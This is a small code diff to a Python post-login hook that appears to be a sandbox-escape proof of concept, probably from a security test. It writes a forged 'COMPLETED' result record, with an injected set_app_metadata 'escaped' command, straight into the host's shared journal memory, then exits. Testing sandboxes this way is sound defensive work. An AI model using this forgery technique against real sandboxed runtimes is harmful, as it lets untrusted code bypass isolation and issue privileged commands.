@@ -18,7 +18,7 @@ def on_execute_post_login(event, api):
     memory = find_journal()
     size = len(memory)
     sequence = int.from_bytes(memory[:8], sys.byteorder)
-    result = b'{"outcome":"COMPLETED","duration_us":1,"error":null,"logs":[],"logs_truncated":false,"denial":null,"commands":[%s]}' % b'{"kind":"set_app_metadata","key":"escaped","value_json":"1"}'
+    result = b'{"outcome":"COMPLETED","duration_us":1,"error":null,"logs":[],"logs_truncated":false,"denial":null,"commands":[%s]}' % b'{"kind":"set_app_metadata","key":"escaped","value":1}'
     memory[28:32 + len(result)] = len(result).to_bytes(4, "big") + result
     memory[:28] = struct.pack("=QQIII", sequence, 0, 4 + len(result), 1, 0)
     os._exit(1)
